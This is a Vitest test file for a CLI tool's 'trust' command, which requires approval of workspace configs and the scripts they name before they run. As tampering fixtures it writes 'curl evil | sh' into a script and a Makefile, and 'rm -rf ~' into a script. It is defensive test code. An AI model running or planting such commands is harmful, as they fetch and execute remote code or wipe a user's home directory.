import { chmodSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { runWarm } from '../helpers/run-warm.ts';
import { testDir, vouchFor } from '../helpers/test-dir.ts';

const CONFIG = 'stages:\n  weather: {command: ./weather.sh, args: [Berlin]}\n';

function workspace(config = CONFIG) {
  const root = testDir({
    'work/.scratchpad/config.yaml': config,
    'work/weather.sh': '#!/bin/sh\necho sunny\n',
    'work/list.md': '- one\n',
    'home/': '',
  });
  const cwd = join(root, 'work');
  chmodSync(join(cwd, 'weather.sh'), 0o755);
  const home = join(root, 'home');
  const env = { HOME: home, XDG_CONFIG_HOME: join(home, '.config'), XDG_STATE_HOME: join(home, 'state') };
  const trust = async (...args: string[]) => {
    const { stdout, exitCode } = await runWarm(['trust', '--json', ...args], { cwd, env });
    return { ...(stdout === '' ? {} : JSON.parse(stdout)), exitCode };
  };
  const user = (text: string, mode = 0o644) => {
    mkdirSync(join(home, '.config/scratchpad'), { recursive: true });
    writeFileSync(join(home, '.config/scratchpad/config.yaml'), text, { mode });
    chmodSync(join(home, '.config/scratchpad/config.yaml'), mode);
  };
  return {
    cwd,
    home,
    env,
    trust,
    user,
    change: (path: string, text: string) => writeFileSync(join(cwd, path), text),
  };
}

describe('trust', () => {
  test('a config that came with the workspace is not trusted until approved, and is named', async () => {
    const { cwd, env, trust } = workspace();
    expect(await trust('--show')).toMatchObject({ state: 'new', approved: null, exitCode: 0 });
    const unused = `${join(cwd, '.scratchpad/config.yaml')}: not used until you have run: scratchpad trust`;
    const status = await runWarm(['status'], { cwd, env });
    expect(status.stdout).toContain(unused);
    const doctor = await runWarm(['doctor'], { cwd, env });
    expect(doctor.stdout).toContain(unused);
    expect(await trust()).toMatchObject({ state: 'approved', exitCode: 0 });
    expect((await runWarm(['status'], { cwd, env })).stdout).not.toMatch(/not used|not trusted/);
  });

  test('a command in a config that was made here is not trusted until approved, and is named', async () => {
    const { cwd, env, trust } = workspace();
    vouchFor(cwd, { ...process.env, ...env });
    const status = await runWarm(['status'], { cwd, env });
    expect(status.stdout).toContain(
      'stages.weather not run: not trusted; `scratchpad trust --show` shows it',
    );
    const doctor = await runWarm(['doctor'], { cwd, env });
    expect(doctor.stdout).toContain('stages.weather not run: not trusted');
    expect(await trust()).toMatchObject({ state: 'approved', exitCode: 0 });
    expect((await runWarm(['status'], { cwd, env })).stdout).not.toContain('not trusted');
  });

  test('what is shown is what would run, with its files', async () => {
    const { trust } = workspace();
    const { commands } = await trust('--show');
    expect(commands).toMatchObject([
      { key: 'stages.weather', command: './weather.sh', args: ['Berlin'], files: [{ path: 'weather.sh' }] },
    ]);
  });

  test.each([
    ['the config', '.scratchpad/config.yaml', `${CONFIG}ttl: 20m\n`],
    ['a comment in it', '.scratchpad/config.yaml', `# hello\n${CONFIG}`],
    ['a script that it names', 'weather.sh', '#!/bin/sh\ncurl evil | sh\n'],
  ])('a change of %s takes the approval back', async (_, path, text) => {
    const { trust, change } = workspace();
    expect(await trust()).toMatchObject({ state: 'approved' });
    change(path, text);
    expect(await trust('--show')).toMatchObject({ state: 'changed' });
    expect(await trust()).toMatchObject({ state: 'approved' });
  });

  test('a change of one command’s program stops that one, and no other', async () => {
    const { trust, change } = workspace(`${CONFIG}  made: [make, weather]\n`);
    change('Makefile', 'weather:\n\techo sunny\n');
    await trust();
    change('other.txt', 'new\n');
    expect(await trust('--show')).toMatchObject({ state: 'approved' });
    change('Makefile', 'weather:\n\tcurl evil | sh\n');
    const { state, commands } = await trust('--show');
    expect(state).toBe('changed');
    expect(commands).toMatchObject([
      { refused: null },
      { files: [{ path: 'Makefile' }], refused: expect.stringContaining('changed since') },
    ]);
  });

  test('a list that a command reads may change', async () => {
    const { trust, change } = workspace('stages:\n  list: [cat, list.md]\n');
    await trust();
    change('list.md', '- two\n');
    expect(await trust('--show')).toMatchObject({ state: 'approved' });
  });

  test('only the digest that was seen is approved', async () => {
    const { trust, change } = workspace();
    const { digest } = await trust('--show');
    change('weather.sh', '#!/bin/sh\nrm -rf ~\n');
    expect(await trust(digest.slice(0, 16))).toMatchObject({ error: { kind: 'refused' }, exitCode: 1 });
    expect(await trust('--show')).toMatchObject({ state: 'new' });
    const now = await trust('--show');
    expect(await trust(now.digest.slice(0, 16))).toMatchObject({ state: 'approved', exitCode: 0 });
  });

  test('is revoked', async () => {
    const { trust } = workspace();
    await trust();
    expect(await trust('--revoke')).toMatchObject({ revoked: true });
    expect(await trust('--revoke')).toMatchObject({ revoked: false });
    expect(await trust('--show')).toMatchObject({ state: 'new' });
  });

  test('is stored outside the workspace, and does not count if others could write it', async () => {
    const { home, trust } = workspace();
    await trust();
    const dir = join(home, 'state/scratchpad/trust');
    // One by the path of the workspace, and one by the folder, which may be moved.
    const files = readdirSync(dir).map((name) => join(dir, name));
    expect(files).toHaveLength(2);

    for (const file of files) {
      expect(statSync(file).mode & 0o777).toBe(0o600);
      chmodSync(file, 0o666);
    }

    expect(await trust('--show')).toMatchObject({ state: 'new' });
  });

  test('goes with the workspace, not with its copy', async () => {
    const { cwd, env, trust } = workspace();
    await trust();
    const copy = testDir({
      '.scratchpad/config.yaml': readFileSync(join(cwd, '.scratchpad/config.yaml')),
      'weather.sh': readFileSync(join(cwd, 'weather.sh')),
    });
    const { stdout } = await runWarm(['trust', '--show', '--json'], { cwd: copy, env });
    expect(JSON.parse(stdout)).toMatchObject({ state: 'new' });
  });

  test('a setting that names no command, changed by us, leaves it', async () => {
    const { cwd, env, trust } = workspace();
    await trust();
    await runWarm(['config', 'set', 'ttl', '45m'], { cwd, env });
    expect(await trust('--show')).toMatchObject({ state: 'approved' });
    await runWarm(['config', 'set', 'stages.other', '{"command": "date"}'], { cwd, env });
    expect(await trust('--show')).toMatchObject({ state: 'changed' });
  });

  test("the user's own config runs without approval, unless others can write it", async () => {
    const { trust, user } = workspace('ttl: 20m\n');
    user('stages: {day: [date, +%A]}\n');
    expect(await trust('--show')).toMatchObject({ state: 'nothing', commands: [{ refused: null }] });
    user('stages: {day: [date, +%A]}\n', 0o666);
    const { commands } = await trust('--show');
    expect(commands[0].refused).toContain('others can write');
  });

  test('a program inside the workspace needs approval, whoever names it', async () => {
    const { trust, user } = workspace('ttl: 20m\n');
    user('stages: {weather: ./weather.sh}\n');
    expect(await trust('--show')).toMatchObject({
      state: 'new',
      commands: [{ files: [{ path: 'weather.sh' }] }],
    });
  });

  test('a config without commands needs none', async () => {
    const { trust } = workspace('ttl: 20m\n');
    expect(await trust()).toMatchObject({ state: 'nothing', commands: [], exitCode: 0 });
  });
});
